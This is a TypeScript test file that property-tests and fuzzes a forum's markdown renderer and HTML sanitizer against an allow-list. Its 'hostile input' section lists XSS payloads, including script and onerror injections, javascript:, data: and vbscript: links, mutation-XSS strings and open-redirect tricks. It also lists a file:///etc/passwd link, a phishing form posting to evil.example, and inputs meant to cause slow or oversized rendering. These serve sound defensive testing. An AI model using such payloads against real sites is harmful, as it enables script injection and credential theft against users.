import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe } from "vitest";
import {
  excerpt,
  htmlToText,
  MAX_MARKDOWN_LENGTH,
  plainText,
  renderMarkdown,
  sanitizeHtml,
} from "#app/platform/markdown.server.ts";
import { safeHref } from "#app/platform/safe-href.ts";
import { expect, test } from "../support/test.ts";

// Written down a second time on purpose: the test must not believe the code's own list.
const allowed: Record<string, Record<string, RegExp>> = {
  ...Object.fromEntries(
    "p br hr h3 h4 h5 h6 strong em del code kbd sub sup blockquote ul li table thead tbody tr th td"
      .split(" ")
      .map((tag) => [tag, {}]),
  ),
  a: {
    href: /^(https?:\/\/[^@]*$|https?:\/\/[^/]+\/|mailto:|tel:|\/(?![/\\])|#)/,
    rel: /^nofollow ugc noopener$/,
  },
  ol: { start: /^\d{1,9}$/ },
  pre: { tabindex: /^0$/ },
  div: { class: /^table-scroll$/, tabindex: /^0$/ },
  img: {
    src: /^\/bilder\/[\w-]{22}(\?b=960)?$/,
    srcset: /^\/bilder\/([\w-]{22})\?b=960 960w, \/bilder\/\1 2400w$/,
    sizes: /^\(max-width: 46rem\) 90vw, \d+px$/,
    width: /^\d{1,4}$/,
    height: /^\d{1,4}$/,
    alt: /^/,
    loading: /^lazy$/,
    decoding: /^async$/,
  },
};

const wideKey = "wide_image_of_22_chars";
const smallKey = "tiny-image-of-22-chars";
const images = new Map([
  [wideKey, { width: 2400, height: 1800, smallWidth: 960 }],
  [smallKey, { width: 40, height: 30, smallWidth: null }],
]);

/** Everything in the HTML that is not on the list above, found by a real parser. */
function foreignParts(html: string): string[] {
  const found: string[] = [];
  let depth = 0;
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        depth++;
        if (depth > 40) found.push("too deep");
        const known = Object.hasOwn(allowed, name) ? allowed[name] : undefined;
        if (!known) found.push(`<${name}>`);
        for (const [key, value] of Object.entries(attributes)) {
          if (!known?.[key]?.test(value)) found.push(`<${name} ${key}=${value}>`);
        }
        if (name === "a" && "href" in attributes && !("rel" in attributes)) found.push("<a> without rel");
      },
      onclosetag() {
        depth--;
      },
      oncomment: (data) => found.push(`<!--${data}`),
      onprocessinginstruction: (name) => found.push(`<${name}`),
    },
    { decodeEntities: true, recognizeSelfClosing: true },
  );
  parser.end(html);
  return found;
}

const pieces = fc.constantFrom(
  ..."[ ] ( ) ! * _ ** ~~ ` < > # | - 1. + \\ & &amp; &#106; \" ' = ``` ~~~ : ; javascript: data: // http:// www. a@b.de".split(
    " ",
  ),
  ...[
    "\n",
    "\n\n",
    "    ",
    " ",
    "\t",
    "\r\n",
    "\u0000",
    "\u202e",
    "word",
    "über",
    "😀",
    "|-|-|\n",
    "[x]: /y\n",
  ],
  ...[
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=",
    "<svg/onload=",
    "<!--",
    "-->",
    "<style>",
  ],
  ...[
    "<kbd>",
    "</kbd>",
    "<sub>",
    "<br>",
    "<br/>",
    "<p>",
    "<![CDATA[",
    "<?php",
    "<iframe src=//x>",
    `![Foto](/bilder/${wideKey})`,
    `![](/bilder/${smallKey} "Titel")`,
    "![x](/bilder/",
    `<img src="/bilder/${wideKey}" srcset="https://a.example/x 1x" onerror=x>`,
    '<img src="https://a.example/x" alt="x">',
    "on",
    "style=",
    "id=",
  ],
);
const knottedText = fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join(""));
const anyText = fc.oneof(
  knottedText,
  fc.string({ unit: "binary", maxLength: 300 }),
  fc.lorem({ mode: "sentences" }),
);

describe("whatever is typed", () => {
  test("only allowed tags, attributes and addresses come out", () => {
    fc.assert(
      fc.property(anyText, (markdown) => {
        expect(foreignParts(renderMarkdown(markdown, images))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  test("sanitising again changes nothing", () => {
    fc.assert(
      fc.property(anyText, (markdown) => {
        const html = renderMarkdown(markdown, images);
        expect(sanitizeHtml(html)).toBe(html);
      }),
      { numRuns: 1_000 },
    );
  });

  test("the allow-list holds for foreign HTML too", () => {
    fc.assert(
      fc.property(anyText, (html) => {
        const once = sanitizeHtml(html);
        expect(foreignParts(once)).toEqual([]);
        expect(foreignParts(sanitizeHtml(once))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  test("plain words come through in their order", () => {
    const word = fc.stringMatching(/^[A-Za-zäöüÄÖÜß]{1,12}$/).filter((w) => !/^www$/i.test(w));
    const gap = fc.constantFrom(" ", "\n", "\n\n", ", ", " & ", " < ", "\n> ", "\n- ");
    fc.assert(
      fc.property(fc.array(fc.tuple(word, gap), { minLength: 1, maxLength: 40 }), (parts) => {
        const words = parts.map(([w]) => w);
        const text = plainText(parts.flat().join(""));
        expect(text.match(/[A-Za-zäöüÄÖÜß]+/g)).toEqual(words);
      }),
    );
  });

  test("a code block keeps every character", () => {
    const line = fc.string({ unit: "grapheme-ascii", maxLength: 60 });
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 8 }), (lines) => {
        const code = `x${lines.filter((l) => !l.includes("~~~")).join("\n")}x`;
        expect(htmlToText(renderMarkdown(`~~~\n${code}\n~~~`))).toBe(htmlToTextExpectation(code));
      }),
    );
  });
});

/** Trailing blanks and empty lines are of no use in plain text and are folded there. */
function htmlToTextExpectation(code: string): string {
  return code
    .replace(/[ \t]+\n/g, "\n")
    .replace(/\n{2,}/g, "\n")
    .trim();
}

describe("hostile input", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//trap.example)",
    "[x](/\\trap.example)",
    "[x](/\t/trap.example)",
    "[x](https://bank.example@trap.example)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/b.png)',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ` | `",
    "<kbd onclick=alert(1)>x</kbd>",
    "<kbd><kbd><sub></p><p></kbd>",
    "</div></main></body><h1>mine</h1>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
    "<p style=position:fixed id=x class=card>x</p>",
    "[__proto__]: https://a.example\n[constructor][toString] [__proto__]",
    "\u0000\ud800 lone",
  ];

  test.each(hostile)("%j stays harmless", (markdown) => {
    const html = renderMarkdown(markdown);
    expect(foreignParts(html)).toEqual([]);
    expect(html).not.toMatch(/href="[^"]*(?:javascript|data|vbscript|trap)/i);
  });

  const knots: Record<string, string> = {
    brackets: "[",
    images: "![",
    "open links": "[a](",
    stars: "*",
    "mixed emphasis": "*a_",
    "tight emphasis": "**_a",
    "half-closed emphasis": "***a** ",
    underscores: "a_",
    "struck words": ">~~a.b",
    "signs of addresses": "!",
    "emphasis in tables": "a|_",
    quotes: ">",
    "spaced quotes": "> ",
    "nested lists": "- ",
    "numbered lists": "1. ",
    backticks: "`a",
    "open tags": "<a ",
    comments: "<!--",
    pipes: "|a",
    definitions: "[a]: b\n",
    addresses: "a.b@c.",
    "open addresses": "www.a(",
    entities: "&#1;",
    "blank lines": "\n",
  };

  test.each(Object.keys(knots))(
    "200 KB of %s come back soon, and so does what is just short enough",
    (name) => {
      const unit = knots[name]!;
      for (const length of [200_000, MAX_MARKDOWN_LENGTH]) {
        const markdown = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
        const start = performance.now();
        const html = renderMarkdown(markdown);
        expect(performance.now() - start).toBeLessThan(5_000);
        expect(foreignParts(html)).toEqual([]);
      }
    },
  );

  test("a table that would grow with the square of its source does not", () => {
    const columns = 5_000;
    const markdown = `${"|a".repeat(columns)}\n${"|-".repeat(columns)}\n${"|\n".repeat(10_000)}`;
    expect(renderMarkdown(markdown).length).toBeLessThan(1_000_000);
  });

  test("one long address used thousands of times does not blow up the page", () => {
    const markdown = `[a]: https://a.example/${"x".repeat(1_900)}\n\n${"[a]\n".repeat(14_000)}`;
    expect(renderMarkdown(markdown).length).toBeLessThan(2_000_000);
  });

  test("a text that is too long is shown as typed, every word of it", () => {
    const markdown = `**Anfang** <b>\n\n${"Wort ".repeat(MAX_MARKDOWN_LENGTH / 5)}\nEnde`;
    const html = renderMarkdown(markdown);
    expect(html).toMatch(/^<p>\*\*Anfang\*\* &lt;b&gt;<\/p>/);
    expect(html).toContain("<br />Ende</p>");
    expect(sanitizeHtml(html)).toBe(html);
  });
});

describe("what people write", () => {
  test("line breaks count, headings start below the page's own", () => {
    expect(renderMarkdown("# Mein Router\nZeile 1\nZeile 2")).toBe(
      "<h3>Mein Router</h3>\n<p>Zeile 1<br />Zeile 2</p>\n",
    );
    expect(renderMarkdown("###### tief")).toBe("<h6>tief</h6>\n");
  });

  test("HTML is shown as typed, keys and indices work", () => {
    expect(renderMarkdown("<b>fett</b> <kbd>Strg</kbd> CO<sub>2</sub>")).toBe(
      "<p>&lt;b&gt;fett&lt;/b&gt; <kbd>Strg</kbd> CO<sub>2</sub></p>\n",
    );
  });

  test("an image becomes a link with its description, inside a link only the description", () => {
    const link = '<a href="https://a.example/led.png" rel="nofollow ugc noopener">';
    expect(renderMarkdown("![Rote LED](https://a.example/led.png)")).toBe(`<p>${link}Rote LED</a></p>\n`);
    expect(renderMarkdown("![](https://a.example/led.png)")).toBe(
      `<p>${link}https://a.example/led.png</a></p>\n`,
    );
    expect(renderMarkdown("[![klein](/k.png)](https://a.example/led.png)")).toBe(`<p>${link}klein</a></p>\n`);
  });

  test("an own image is shown with its place kept, a small version and a way to the whole", () => {
    const address = `/bilder/${wideKey}`;
    expect(renderMarkdown(`![Rote "LED"](${address})`, images)).toBe(
      `<p><a href="${address}" rel="nofollow ugc noopener"><img src="${address}?b=960" ` +
        `srcset="${address}?b=960 960w, ${address} 2400w" sizes="(max-width: 46rem) 90vw, 693px" ` +
        'width="693" height="520" alt="Rote &quot;LED&quot;" loading="lazy" decoding="async" /></a></p>\n',
    );
    expect(renderMarkdown(`![](/bilder/${smallKey})`, images)).toContain(
      `<img src="/bilder/${smallKey}" width="40" height="30" alt="Bild" `,
    );
    expect(htmlToText(renderMarkdown(`Sehen Sie: ![Rote LED](${address})`, images))).toBe(
      "Sehen Sie: Rote LED",
    );
  });

  test("an image that is not one of the text's own, or lies elsewhere, stays a link", () => {
    const foreign = "/bilder/other_image_of_22_chars".slice(0, 30);
    for (const address of [foreign, `https://a.example/bilder/${wideKey}`, `/bilder/${wideKey}?x`]) {
      const html = renderMarkdown(`![Foto](${address})`, images);
      expect(html).not.toContain("<img");
      expect(html).toContain(">Foto</a>");
    }
    expect(renderMarkdown(`![Foto](/bilder/${wideKey})`)).not.toContain("<img");
  });

  test("tables, code and lists stay", () => {
    expect(renderMarkdown("| LED | heißt |\n|---|---|\n| rot | `LOS` |")).toBe(
      '<div class="table-scroll" tabindex="0"><table><thead><tr><th>LED</th><th>heißt</th></tr></thead>' +
        "<tbody><tr><td>rot</td><td><code>LOS</code></td></tr></tbody></table></div>\n",
    );
    expect(renderMarkdown("```sh\nping -c 3 1.1.1.1 > log\n```")).toBe(
      '<pre tabindex="0"><code>ping -c 3 1.1.1.1 &gt; log</code></pre>\n',
    );
    expect(renderMarkdown("3. drei\n4. vier")).toContain('<ol start="3">');
    expect(renderMarkdown("- [x] neu gestartet\n- [ ] Kabel")).toContain("<li>☑ neu gestartet</li>");
  });

  test.each([
    ["https://a.example/ä?b=1#c", "https://a.example/%C3%A4?b=1#c"],
    ["www.a.example", "https://www.a.example/"],
    ["/t/12/router#p3", "/t/12/router#p3"],
    ["#p3", "#p3"],
    ["mailto:hilfe@a.example", "mailto:hilfe@a.example"],
    ["a.example/b", undefined],
    ["ftp://a.example", undefined],
    ["https://", undefined],
  ])("the address %s becomes %s", (typed, href) => {
    expect(safeHref(typed)).toBe(href);
  });
});

test("ampersands in addresses work written out and not, and mean themselves in an address alone", () => {
  const link = '<a href="https://a.example/?b=1&amp;c=2" rel="nofollow ugc noopener">';
  expect(renderMarkdown("[x](https://a.example/?b=1&c=2)")).toBe(`<p>${link}x</a></p>\n`);
  expect(renderMarkdown("[x](https://a.example/?b=1&amp;c=2)")).toBe(`<p>${link}x</a></p>\n`);
  expect(htmlToText(renderMarkdown("<https://a.example/?b&lt;c>"))).toBe("https://a.example/?b&lt;c");
});

test("an address of three thousand characters is no link", () => {
  expect(safeHref(`https://a.example/${"x".repeat(3_000)}`)).toBeUndefined();
});

describe("plain text", () => {
  test("keeps the words and the lines", () => {
    expect(plainText("# Titel\n\nEin **fetter** [Link](https://a.example) & `<b>`\n\n- eins\n- zwei")).toBe(
      "Titel\nEin fetter Link & <b>\neins\nzwei",
    );
    expect(plainText("a | b\n--|--\n1 | 2")).toBe("a b\n1 2");
  });

  test("an excerpt fits, ends between words and never in half a character", () => {
    expect(excerpt("Kurz.", 20)).toBe("Kurz.");
    expect(excerpt("Der Router blinkt seit gestern Abend rot", 25)).toBe("Der Router blinkt seit…");
    fc.assert(
      fc.property(
        fc.string({ unit: "grapheme", maxLength: 200 }),
        fc.integer({ min: 2, max: 80 }),
        (text, n) => {
          const short = excerpt(text, n);
          expect(short.length).toBeLessThanOrEqual(n);
          expect(Buffer.from(short).toString()).toBe(short);
        },
      ),
    );
  });
});
